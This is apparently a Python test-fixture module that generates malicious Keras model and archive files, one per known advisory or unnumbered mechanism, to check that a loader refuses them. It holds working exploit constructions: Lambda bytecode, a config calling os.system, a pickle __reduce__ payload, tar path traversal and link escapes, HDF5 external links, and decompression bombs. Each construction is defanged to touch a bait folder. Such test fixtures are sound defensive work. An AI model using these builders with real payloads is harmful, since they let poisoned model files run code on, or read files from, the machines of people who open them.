"""Known ways to attack who opens a model file, each as a file made by code.

One for each advisory on Keras' files since 2024, and for the mechanisms that
have no number. Each file is a good artifact of the tests with one thing
changed, and does nothing worse than to write or to read under a folder that
is given: the bait. Tests open each by our own doors, `attacks.py` by stock
Keras as well.
"""

import base64
import codecs
import dataclasses
import functools
import io
import json
import marshal
import pickle
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import h5py
import numpy as np

HELPERS = Path(__file__).parents[2] / "backends_tests" / "helpers"
sys.path.append(str(HELPERS))

import artifact_fixtures as fixtures  # noqa: E402
from artifact_fixtures import (  # noqa: E402
    CONFIG,
    DENSE,
    FLATTEN,
    KERNEL,
    WEIGHTS,
    edit_json,
    edit_layer,
    edit_node,
    edit_weights,
    node,
)

# What a bomb says that it holds; below the 4 GiB from which Keras looks.
BOMB = 1 << 29
WRITTEN, READ = "written", "secret.txt"


@dataclasses.dataclass(frozen=True)
class Mechanism:
    """A kind of attack.

    Args:
        ids: of its advisories; none for one without a number.
        what: it does, for the table.
        make: the file's bytes, for a folder of bait: `WRITTEN` in it must
            not appear, and `READ` is there and not to be read.
        suffix: of the file's name.
        door: `"model"` for a file that Keras opens as a model, `"archive"`
            for one that it extracts.
        backend: the only one on which it can work, or none.
    """

    ids: tuple[str, ...]
    what: str
    make: Callable[[Path], bytes]
    suffix: str = ".keras"
    door: str = "model"
    backend: str | None = None


# === Configs that are programs ===


def _lambda(bait: Path) -> dict:
    """A function as Keras keeps a lambda: marshalled bytecode."""
    path = str(bait / WRITTEN)
    function = eval(f"lambda x: (open({path!r}, 'w').close(), x)[1]")
    code = codecs.encode(marshal.dumps(function.__code__), "base64").decode()
    config = {"code": code, "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": config}


def _lambda_layer(bait: Path) -> dict:
    config = {"name": "evil", "function": _lambda(bait), "arguments": {}}
    return node("Lambda", config)


def _insert(*nodes: dict, at: int = FLATTEN) -> bytes:
    """The good file with more layers."""

    def change(config):
        config["config"]["layers"][at:at] = nodes

    return edit_json(CONFIG, change)


def _call(module: str, name: str, *args, **kwargs) -> bytes:
    """A functional model, one of whose layers is a call of any function."""

    def function(kind, key, **keys):
        return {"class_name": kind, "name": key, "inbound_nodes": [], **keys}

    def change(config):
        layers = config["config"]["layers"]
        first = {**layers[0], "name": "pixels", "inbound_nodes": []}
        evil = function(
            "function",
            "evil",
            module=module,
            config=name,
            registered_name=name,
        )
        evil["inbound_nodes"] = [{"args": list(args), "kwargs": kwargs}]
        config.update(class_name="Functional")
        config["config"] = {
            "name": "m",
            "trainable": True,
            "layers": [first, evil],
            "input_layers": [["pixels", 0, 0]],
            "output_layers": [["evil", 0, 0]],
        }

    return edit_json(CONFIG, change)


def _get_file(bait: Path) -> bytes:
    origin = (bait / READ).as_uri()
    options = {"cache_dir": str(bait), "cache_subdir": "", "origin": origin}
    return _call("keras.utils", "get_file", WRITTEN, **options)


def _load_model_lambda(bait: Path) -> bytes:
    path = bait / "inner.keras"
    path.write_bytes(_insert(_lambda_layer(bait)))
    function = node("function", "load_model", module="keras.models")
    arguments = {"safe_mode": False, "filepath": str(path)}
    config = {"name": "evil", "function": function, "arguments": arguments}
    return _insert(node("Lambda", config))


def _enable_unsafe(bait: Path) -> bytes:
    name = "enable_unsafe_deserialization"
    function = node("function", name, module="keras.config")
    wrapped = {"name": "first", "function": function, "arguments": {}}
    return _insert(node("Lambda", wrapped), _lambda_layer(bait))


def _legacy_file(bait: Path) -> bytes:
    buffer = io.BytesIO()
    config = json.loads(_members(_insert(_lambda_layer(bait)))[CONFIG])
    with h5py.File(buffer, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.15.0"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = []
    return buffer.getvalue()


def _torch_module(bait: Path) -> bytes:
    class Evil:
        def __reduce__(self):
            return open, (str(bait / WRITTEN), "w")

    buffer = io.BytesIO()
    # As torch.save writes it, without torch.
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Evil(), 2))
        archive.writestr("archive/version", "3\n")
    text = base64.b64encode(buffer.getvalue()).decode()
    return _insert(node("TorchModuleWrapper", {"name": "e", "module": text}))


def _saved_model(bait: Path) -> bytes:
    config = {"name": "e", "filepath": str(bait), "trainable": True}
    return _insert(node("TFSMLayer", config))


def _vocabulary(bait: Path) -> bytes:
    config = {"name": "words", "vocabulary": str(bait / READ)}
    return _insert(node("StringLookup", config))


def _nested_lambda(bait: Path) -> bytes:
    config = {"name": "times", "layer": _lambda_layer(bait)}
    return _insert(node("TimeDistributed", config))


def _registered(bait: Path) -> bytes:
    return edit_node(DENSE, registered_name="evil>Dense")


def _up_name(bait: Path) -> bytes:
    return edit_layer(DENSE, name="../../written")


def _list_config(bait: Path) -> bytes:
    return fixtures.with_member(CONFIG, json.dumps(["Sequential"]).encode())


def _text_config(bait: Path) -> bytes:
    return edit_node(DENSE, config="units")


# === Weights ===


def _shape_bomb(bait: Path) -> bytes:
    side = int((BOMB / 4) ** 0.5)

    def change(file):
        del file[KERNEL]
        options = {"chunks": (1024, 1024), "compression": "gzip"}
        file.create_dataset(KERNEL, (side, side), "f4", **options)

    return edit_weights(change)


def _external_data(bait: Path) -> bytes:
    size = 4 * 338 * 10
    (bait / READ).write_bytes(bytes(size))

    def change(file):
        del file[KERNEL]
        outside = [(str(bait / READ), 0, size)]
        file.create_dataset(KERNEL, (338, 10), "f4", external=outside)

    return edit_weights(change)


def _linked(path: str, make_target: Callable[[Path], object]):
    def make(bait: Path) -> bytes:
        def change(file):
            if path in file:
                del file[path]
            file[path] = make_target(bait)

        return edit_weights(change)

    return make


def _outside(bait: Path) -> h5py.ExternalLink:
    with h5py.File(bait / "other.h5", "w") as other:
        other["x"] = np.zeros((338, 10), "f4")
    return h5py.ExternalLink(str(bait / "other.h5"), "/x")


def _soft_group(bait: Path) -> bytes:
    def change(file):
        file.move("layers/dense", "elsewhere")
        file["layers/dense"] = h5py.SoftLink("/elsewhere")

    return edit_weights(change)


# === Archives ===


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            info.filename: archive.read(info) for info in archive.infolist()
        }


@functools.cache
def _deflate(**bombs: int) -> bytes:
    """The good file with members that are mostly blanks, compressed."""
    buffer = io.BytesIO()
    members = fixtures.good_members()
    names = {"config": CONFIG, "asset": "assets/a", "asset2": "assets/b"}
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, 1) as archive:
        for key, size in bombs.items():
            name = names[key]
            with archive.open(name, "w", force_zip64=True) as stream:
                for _ in range(size >> 24):
                    stream.write(b" " * (1 << 24))
                stream.write(members.pop(name, b""))
        for name, body in members.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def _npz_bomb(bait: Path) -> bytes:
    """Weights as NumPy's archive, whose header says half a gigabyte."""
    weights = io.BytesIO()
    head = f"{{'descr':'<f4','fortran_order':False,'shape':({BOMB // 4},),}}"
    text = head.ljust(117).encode() + b"\n"
    array = b"\x93NUMPY\1\0" + len(text).to_bytes(2, "little") + text
    with zipfile.ZipFile(weights, "w") as archive:
        archive.writestr("layers/dense/vars.npy", array)
    members = fixtures.good_members()
    del members[WEIGHTS]
    return fixtures.seal(members | {"model.weights.npz": weights.getvalue()})


def _tar(*members: tuple[str, bytes, str]) -> Callable[[Path], bytes]:
    """A tar archive of names, kinds and what they link to (`{bait}`)."""

    def make(bait: Path) -> bytes:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            for name, kind, target in members:
                info = tarfile.TarInfo(name.format(bait=bait))
                info.type = kind
                info.linkname = target.format(bait=bait)
                archive.addfile(info)
        return buffer.getvalue()

    return make


_LONG = "/".join(["d" * 200] * 20)
MECHANISMS = {
    "lambda": Mechanism(
        ("CVE-2024-3660",),
        "a Lambda layer's bytecode runs",
        lambda bait: _insert(_lambda_layer(bait)),
    ),
    "function": Mechanism(
        ("CVE-2025-1550",),
        "the config names any module's function, and its arguments",
        lambda bait: _call("os", "system", f"touch {bait / WRITTEN}"),
    ),
    "get_file": Mechanism(
        ("CVE-2025-8747",),
        "an allowed function, `get_file`, writes a file",
        _get_file,
    ),
    "load_model": Mechanism(
        ("CVE-2025-8747",),
        "a Lambda layer calls `load_model` without safe mode",
        _load_model_lambda,
    ),
    "legacy": Mechanism(
        ("CVE-2025-9905",),
        "an `.h5` file's Lambda layer, which ignored safe mode",
        _legacy_file,
        suffix=".h5",
    ),
    "unsafe": Mechanism(
        ("CVE-2025-9906",),
        "the config calls `enable_unsafe_deserialization`",
        _enable_unsafe,
    ),
    "vocabulary": Mechanism(
        ("CVE-2025-12058",),
        "a lookup layer's vocabulary is any file, or URL",
        _vocabulary,
        backend="tensorflow",
    ),
    "torch": Mechanism(
        ("CVE-2025-49655",),
        "a wrapped PyTorch module is unpickled",
        _torch_module,
        backend="torch",
    ),
    "up": Mechanism(
        ("CVE-2025-12060",),
        "an archive's member has `../` in its name",
        _tar(("../written", tarfile.REGTYPE, "")),
        suffix=".tar.gz",
        door="archive",
    ),
    "long link": Mechanism(
        ("CVE-2025-12638",),
        "links through a path that is too long to be resolved",
        _tar(
            (_LONG, tarfile.DIRTYPE, ""),
            ("a", tarfile.SYMTYPE, _LONG),
            ("a/b", tarfile.SYMTYPE, "../" * 21),
            ("a/b/written", tarfile.REGTYPE, ""),
        ),
        suffix=".tar.gz",
        door="archive",
    ),
    "working folder": Mechanism(
        ("GHSA-hqp4-2352-xf5r",),
        "what is extracted is compared to the working folder",
        _tar(
            ("here", tarfile.SYMTYPE, "{bait}"),
            ("here/written", tarfile.REGTYPE, ""),
        ),
        suffix=".tar.gz",
        door="archive",
    ),
    "symlink": Mechanism(
        (),
        "an archive's member is a symlink out of it",
        _tar(("written", tarfile.SYMTYPE, "../" + READ)),
        suffix=".tar.gz",
        door="archive",
    ),
    "hard link": Mechanism(
        (),
        "an archive's member is a hard link out of it",
        _tar(("written", tarfile.LNKTYPE, "{bait}/" + READ)),
        suffix=".tar.gz",
        door="archive",
    ),
    "shape bomb": Mechanism(
        ("CVE-2026-0897",),
        "an HDF5 array says half a gigabyte and holds nothing",
        _shape_bomb,
    ),
    "external data": Mechanism(
        ("CVE-2026-1669",),
        "an HDF5 array's data are another file",
        _external_data,
    ),
    "external link": Mechanism(
        ("CVE-2026-1669",),
        "an HDF5 link goes to another file",
        _linked(KERNEL, _outside),
    ),
    "soft links": Mechanism(
        (),
        "an HDF5 group is a soft link",
        _soft_group,
    ),
    "saved model": Mechanism(
        ("CVE-2026-1462",),
        "a TFSMLayer loads a foreign SavedModel",
        _saved_model,
        backend="tensorflow",
    ),
    "up name": Mechanism(
        ("CVE-2026-12479",),
        "a layer's name has `../` and becomes a path",
        _up_name,
    ),
    "nested lambda": Mechanism(
        ("CVE-2026-12481",),
        "a Lambda layer where safe mode is not set",
        _nested_lambda,
    ),
    "member bomb": Mechanism(
        (),
        "a zip member of half a megabyte unpacks to a thousand times that",
        lambda bait: _deflate(config=BOMB),
    ),
    "npz bomb": Mechanism(
        (),
        "an `.npz` of weights says half a gigabyte and holds nothing",
        _npz_bomb,
    ),
    "extraction bomb": Mechanism(
        (),
        "assets unpack to half a gigabyte on the disk",
        lambda bait: _deflate(asset=BOMB // 2 - 1, asset2=BOMB // 2 - 1),
    ),
    "registered name": Mechanism(
        (),
        "`registered_name` says another class than `class_name`",
        _registered,
    ),
    "list": Mechanism((), "the config is a list", _list_config),
    "text": Mechanism((), "a layer's config is a text", _text_config),
}
